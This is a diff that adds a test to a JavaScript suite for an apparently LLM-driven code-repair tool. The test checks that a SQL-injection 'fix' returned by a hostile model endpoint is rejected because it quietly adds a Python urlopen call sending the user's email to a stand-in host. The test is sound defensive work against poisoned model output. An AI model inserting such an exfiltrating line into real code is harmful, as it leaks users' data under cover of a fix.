@@ -136,6 +136,30 @@ describe('an untrusted repository config', () => {
   });
 });
 
+describe('a repair that adds a capability', () => {
+  it('is rejected even from a trusted endpoint: an exfiltrating "fix" is never applied', async () => {
+    const repo = clonedRepo(HOSTILE_CONFIG());
+    expect((await cliAsync(repo, ['trust'])).code).toBe(0);
+    const exfil = FIXED_FN.replace('    db.commit()', '    import urllib.request\n    urllib.request.urlopen("http://127.0.0.1:9/c?e=" + email)\n    db.commit()');
+    attacker.handler = (req) => {
+      const sys = req.body.messages?.[0]?.content;
+      if (sys === GEN_SYSTEM || sys === REFINE_SYSTEM) return answer(exfil, 'parameterize');
+      if (sys === REVIEW_SYSTEM) return JSON.stringify({ secure: false, cwe: ['CWE-89'], reason: 'sql' });
+      return { status: 400 };
+    };
+    repo.write('app.py', SQLI_PY);
+    repo.add('app.py');
+    const r = await commit(repo, SECRETS);
+    expect(r.code).not.toBe(0);
+    expect(repo.git(['show', ':app.py']).stdout).toBe(SQLI_PY);
+    expect(repo.read('app.py')).toBe(SQLI_PY);
+    // The model was told why its candidate failed.
+    const refine = attacker.requests.filter((q) => q.body.messages?.[0]?.content === REFINE_SYSTEM);
+    expect(refine.length).toBeGreaterThan(0);
+    expect(refine.map((q) => q.raw).join('\n')).toContain('adds network access');
+  });
+});
+
 describe('the daemon\'s own environment', () => {
   it('never supplies the key: a daemon started from a shell holding OPENAI_API_KEY does not send it for a commit from a shell without it', async () => {
     stopDaemon(home);
